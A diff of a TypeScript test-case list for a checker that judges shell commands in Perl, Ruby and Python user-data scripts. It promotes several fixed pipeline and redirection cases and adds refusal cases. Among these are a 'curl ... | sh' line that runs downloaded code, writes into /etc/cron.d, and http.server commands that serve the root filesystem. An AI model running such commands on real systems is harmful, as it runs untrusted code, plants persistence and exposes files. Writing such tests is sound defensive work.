@@ -430,25 +430,21 @@ const CASES: StackCase[] = [
         "chomp $cur;",
         "system('sysctl', '-w', 'vm.max_map_count=262144') if $cur < 262144;",
     ]),
-    // MISS: (secure refused) perlop, "qx/STRING/": "A string which is (possibly) interpolated and then executed as a
+    // Was a MISS (fixed in round 71): (secure refused) perlop, "qx/STRING/": "A string which is (possibly) interpolated and then executed as a
     // system command, via /bin/sh" - `df -h / 2>&1` is a literal shell line with a redirection of stderr only. The pack:
     // userData.ts literalScriptCommands (round 71) reads "plain literal shell lines" only (no redirection, pipe or
     // operator), so /opt/ops/check.pl "starts a process". Fix: give the backtick literal to the same shell-line reader as
     // Python shell=True / os.popen (judged as a user-data line), refusing what that reader refuses (perl-backticks-serve).
-    miss(
-        perl("perl-backticks-redirect", "perl: my $df = `df -h / 2>&1` (a literal line with a redirection)", [
-            "my $df = `df -h / 2>&1`;",
-            "print $df;",
-        ]),
-    ),
-    // MISS: (secure refused) perlop qx (via /bin/sh): `lsblk -dno NAME | grep nvme` is a literal pipeline of two reading
+    perl("perl-backticks-redirect", "perl: my $df = `df -h / 2>&1` (a literal line with a redirection)", [
+        "my $df = `df -h / 2>&1`;",
+        "print $df;",
+    ]),
+    // Was a MISS (fixed in round 71): (secure refused) perlop qx (via /bin/sh): `lsblk -dno NAME | grep nvme` is a literal pipeline of two reading
     // commands; literalScriptCommands accepts only plain lines. Fix: as perl-backticks-redirect.
-    miss(
-        perl("perl-backticks-pipe", "perl: my @disks = `lsblk -dno NAME | grep nvme` (a literal pipeline)", [
-            "my @disks = `lsblk -dno NAME | grep nvme`;",
-            'print scalar(@disks), "\\n";',
-        ]),
-    ),
+    perl("perl-backticks-pipe", "perl: my @disks = `lsblk -dno NAME | grep nvme` (a literal pipeline)", [
+        "my @disks = `lsblk -dno NAME | grep nvme`;",
+        'print scalar(@disks), "\\n";',
+    ]),
     perl(
         "perl-backticks-serve",
         "perl: `cd / && nohup python3 -m http.server 8001 >/dev/null 2>&1 &`",
@@ -460,15 +456,13 @@ const CASES: StackCase[] = [
         "cpus = `nproc`.to_i",
         'puts "#{kernel} #{cpus}"',
     ]),
-    // MISS: (secure refused) Ruby docs Kernel#` ("Returns the standard output of running cmd in a subshell"; /bin/sh for
+    // Was a MISS (fixed in round 71): (secure refused) Ruby docs Kernel#` ("Returns the standard output of running cmd in a subshell"; /bin/sh for
     // a line with meta characters): a grep | awk pipeline reading /proc/meminfo. literalScriptCommands reads plain lines
     // only. Fix: as perl-backticks-redirect (ruby-percent-x-serve stays refused).
-    miss(
-        ruby("ruby-backticks-pipe", "ruby: mem = `grep MemTotal /proc/meminfo | awk '{print $2}'`", [
-            "mem = `grep MemTotal /proc/meminfo | awk '{print $2}'`.to_i",
-            "system('sysctl', '-w', 'vm.min_free_kbytes=65536') if mem > 16_000_000",
-        ]),
-    ),
+    ruby("ruby-backticks-pipe", "ruby: mem = `grep MemTotal /proc/meminfo | awk '{print $2}'`", [
+        "mem = `grep MemTotal /proc/meminfo | awk '{print $2}'`.to_i",
+        "system('sysctl', '-w', 'vm.min_free_kbytes=65536') if mem > 16_000_000",
+    ]),
     ruby(
         "ruby-percent-x-serve",
         "ruby: %x(cd / && nohup python3 -m http.server 8001 >/dev/null 2>&1 &)",
@@ -535,16 +529,44 @@ const CASES: StackCase[] = [
             "sysctl -w kernel.core_pattern=/var/crash/core.%e.%p",
         ],
     ),
-    // MISS: (secure refused) Python docs subprocess ("If shell is True, the specified command will be executed through the
+    // Was a MISS (fixed in round 71): (secure refused) Python docs subprocess ("If shell is True, the specified command will be executed through the
     // shell"): a literal pipeline of lsblk | grep. Round 69 accepted shell=True plain lines (py-shell-true); a pipeline is
     // refused as "runs commands the pack does not read" (userData.ts pythonCommandRuns / plainShellLines). Fix: judge a
     // literal shell= line with the user-data shell reader (pipelines, redirections, && lists), as in perl/ruby above.
-    miss(
-        py("py-shell-pipe", "python: subprocess.run('lsblk -dno NAME | grep nvme', shell=True) (a literal pipeline)", [
-            "import subprocess",
-            "subprocess.run('lsblk -dno NAME | grep nvme', shell=True)",
-        ]),
+    py("py-shell-pipe", "python: subprocess.run('lsblk -dno NAME | grep nvme', shell=True) (a literal pipeline)", [
+        "import subprocess",
+        "subprocess.run('lsblk -dno NAME | grep nvme', shell=True)",
+    ]),
+    // Round 71 neighbours: a literal pipeline's every command is judged (plainShellPipelines), a shell reading the pipe
+    // runs what the pack does not read, a tee into /etc/cron.d writes a node path; discarding output stays accepted.
+    py(
+        "py-shell-pipe-sh",
+        "python: subprocess.run('curl -fsS https://example.com/x | sh', shell=True) (a shell runs what it downloads)",
+        ["import subprocess", "subprocess.run('curl -fsS https://example.com/x | sh', shell=True)"],
+        NODE,
     ),
+    py(
+        "py-shell-pipe-tee-cron",
+        "python: subprocess.run('echo x | tee /etc/cron.d/tune', shell=True) (tee writes a cron file)",
+        ["import subprocess", "subprocess.run('echo x | tee /etc/cron.d/tune >/dev/null', shell=True)"],
+        NODE,
+    ),
+    py(
+        "py-shell-redirect-file",
+        "python: subprocess.run('lsblk > /etc/cron.d/tune', shell=True) (a redirection the pack does not read here)",
+        ["import subprocess", "subprocess.run('lsblk > /etc/cron.d/tune', shell=True)"],
+        NODE,
+    ),
+    perl(
+        "perl-backticks-pipe-serve",
+        "perl: `echo | python3 -m http.server 8001 -d / 2>&1` (a pipeline member serving /)",
+        ["my $out = `echo | python3 -m http.server 8001 -d / 2>&1`;"],
+        NODE,
+    ),
+    py("py-shell-pipe-discard", "python: subprocess.run('df -h / 2>/dev/null | tail -n 1', shell=True)", [
+        "import subprocess",
+        "subprocess.run('df -h / 2>/dev/null | tail -n 1', shell=True)",
+    ]),
     node(
         "supervisord-env-own-unit",
         "supervisord in its own unit with Environment=LISTEN=127.0.0.1:9100, %(ENV_LISTEN)s",
